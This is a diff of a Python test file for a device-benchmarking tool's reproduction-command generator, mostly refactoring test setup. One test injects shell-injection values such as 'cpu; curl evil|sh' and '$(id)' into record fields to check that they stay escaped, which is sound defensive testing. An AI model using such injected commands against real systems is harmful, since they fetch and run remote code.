@@ -26,8 +26,7 @@ def results(
     sizes: tuple[int, ...] = (256,),
 ) -> StudyResults:
     study = synthetic.small_study(devices=devices, workloads={"mnist_cnn": Workload(batch_size=list(sizes))})
-    config, paths = synthetic.write_study(study, folder, artefacts=False, change=change)
-    return synthetic.Results(config, paths)
+    return synthetic.results(study, folder, change=change)
 
 
 def test_a_rehearsal_is_no_device_to_compare(tmp_path: Path) -> None:
@@ -38,8 +37,7 @@ def test_a_rehearsal_is_no_device_to_compare(tmp_path: Path) -> None:
 def test_the_command_selects_this_cell_and_no_other(tmp_path: Path) -> None:
     workload = Workload(batch_size=[8, 16], fraction=[0.5, 1.0], sequence_length=[100, 168])
     made = synthetic.small_study(workloads={"weather_gru": workload})
-    config, paths = synthetic.write_study(made, tmp_path, artefacts=False)
-    study = synthetic.Results(config, paths)
+    study = synthetic.results(made, tmp_path)
     cards = {key: card.number for key, card in machine_cards(study.runs).items()}
     found = reproductions(study, tmp_path / "report.html", cards)
     assert len(found) == len(study.summary)
@@ -58,9 +56,7 @@ def test_the_command_selects_this_cell_and_no_other(tmp_path: Path) -> None:
 
 def test_what_a_record_says_is_one_word_of_a_command(tmp_path: Path) -> None:
     evil = "cpu; curl evil|sh"
-    made = synthetic.small_study()
-    config, paths = synthetic.write_study(made, tmp_path, artefacts=False)
-    study = synthetic.Results(config, paths)
+    study = synthetic.results(synthetic.small_study(), tmp_path)
     runs = study.runs.copy()
     study.runs = runs.assign(kind=evil, device=evil, run=evil + "/$(id)/`id`/r1")
     for card in reproductions(study, tmp_path / "report.html", {}).values():
@@ -71,9 +67,7 @@ def test_what_a_record_says_is_one_word_of_a_command(tmp_path: Path) -> None:
 
 
 def test_a_run_of_an_unknown_kind_is_measured_again_by_its_cell_alone(tmp_path: Path) -> None:
-    made = synthetic.small_study()
-    config, paths = synthetic.write_study(made, tmp_path, artefacts=False)
-    study = synthetic.Results(config, paths)
+    study = synthetic.results(synthetic.small_study(), tmp_path)
     study.runs = study.runs.assign(kind=None)
     for card in reproductions(study, tmp_path / "report.html", {}).values():
         assert card["workflow"].startswith("whichdevice study all --configfile")
